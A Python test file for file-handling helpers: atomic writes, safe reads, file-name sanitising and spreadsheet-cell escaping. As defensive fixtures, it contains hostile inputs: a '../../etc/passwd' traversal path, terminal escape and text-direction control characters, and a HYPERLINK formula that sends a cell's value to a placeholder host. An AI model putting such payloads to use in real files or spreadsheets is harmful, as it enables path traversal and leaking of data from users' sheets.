import os

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mriscope.errors import WriteError
from mriscope.files import (
    file_stem,
    read_file,
    read_safe_cell,
    remove_unfinished,
    replacing,
    spreadsheet_safe,
    visible,
    write_text,
)


def test_a_file_is_replaced_whole(tmp_path):
    file = tmp_path / "new folder" / "a.txt"
    write_text(file, "one")
    write_text(file, "two")
    assert file.read_text() == "two"
    assert list(file.parent.iterdir()) == [file]


def fail_halfway(file, error):
    with replacing(file) as draft:
        draft.write_text("half")
        raise error


@pytest.mark.parametrize(
    ("error", "shown"),
    [(OSError(28, "No space left on device"), WriteError), (KeyboardInterrupt(), KeyboardInterrupt)],
)
def test_a_failing_writer_leaves_the_old_file(tmp_path, error, shown):
    file = tmp_path / "a.txt"
    write_text(file, "old")
    with pytest.raises(shown):
        fail_halfway(file, error)
    assert file.read_text() == "old"
    assert list(tmp_path.iterdir()) == [file]


def test_a_place_that_cannot_be_written_is_named(tmp_path):
    (tmp_path / "file").touch()
    with pytest.raises(WriteError, match=r"below cannot be written \(.+\); make room there or name another"):
        write_text(tmp_path / "file" / "below", "text")


def test_what_killed_writers_left_is_removed(tmp_path):
    (tmp_path / ".a.txt.123.unfinished").write_text("half")
    (tmp_path / "b.txt").write_text("whole")
    (tmp_path / ".mine.unfinished").write_text("of somebody else")
    remove_unfinished(tmp_path)
    assert {one.name for one in tmp_path.iterdir()} == {"b.txt", ".mine.unfinished"}


def test_a_file_may_have_the_longest_name_there_is(tmp_path):
    file = tmp_path / ("\u00e4" * 127)
    write_text(file, "one")
    assert file.read_text() == "one"
    assert list(tmp_path.iterdir()) == [file]


def test_bytes_that_are_no_utf8_do_not_stop_a_text(tmp_path):
    write_text(tmp_path / "a.txt", "scan-\udcff.png \U0001f600")
    assert (tmp_path / "a.txt").read_text(encoding="utf-8") == "scan-\ufffd.png \U0001f600"


def test_pipes_devices_and_large_files_are_not_read(tmp_path):
    os.mkfifo(tmp_path / "pipe")
    (tmp_path / "large").write_bytes(b"x" * 11)
    for path, reason in (
        (tmp_path / "pipe", "pipe or a device"),
        ("/dev/zero", "pipe or a device"),
        (tmp_path, "directory"),
        (tmp_path / "none", "No such file"),
        (tmp_path / "large", "11 bytes, at most 10 are read"),
        ("a\0b", "cannot be used"),
        ("~nobody-of-that-name/a", "No such file"),
    ):
        with pytest.raises(OSError, match=reason):
            read_file(path, most=10)
    assert read_file(tmp_path / "large") == b"x" * 11


@pytest.mark.parametrize(
    ("path", "stem"),
    [
        ("a/brain 1.png", "brain 1"),
        ("a/..", "_"),
        ("../../etc/passwd", "passwd"),
        ("a:b|c?.png", "a_b_c_"),
        ("a\x1b[31m\u202e.png", "a_[31m_"),
        ("x" * 300 + ".png", "x" * 80),
        ("a\0b.png", "a_b"),
        ("c\\d.png", "c_d"),
    ],
)
def test_a_stem_is_a_short_name_of_plain_characters(path, stem):
    assert file_stem(path) == stem


@given(st.text(max_size=30))
def test_a_visible_text_has_no_control_characters(text):
    shown = visible(text)
    assert all(one.isprintable() or one in "\n\t" or not one.isascii() for one in shown)
    assert "\u202e" not in shown
    shown.encode()


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ('=HYPERLINK("http://a.b/?"&A1,"c")', '\'=HYPERLINK("http://a.b/?"&A1,"c")'),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\N{FULLWIDTH EQUALS SIGN}1", "'\N{FULLWIDTH EQUALS SIGN}1"),
        ("'=1", "''=1"),
        ("'a.png", "'a.png"),
        ("train/=1.png", "train/=1.png"),
        ("", ""),
    ],
)
def test_no_cell_is_a_formula(text, cell):
    assert spreadsheet_safe(text) == cell
    assert read_safe_cell(cell) == text


def test_numbers_are_no_formulas():
    assert [spreadsheet_safe(value) for value in (-1, -0.5, None)] == [-1, -0.5, None]


@given(st.text("'=+-@\t\r\na\uff1d", max_size=5))
def test_every_text_is_read_back(text):
    cell = spreadsheet_safe(text)
    assert read_safe_cell(cell) == text
    assert cell[:1] not in tuple("=+-@\t\r\n\uff1d")
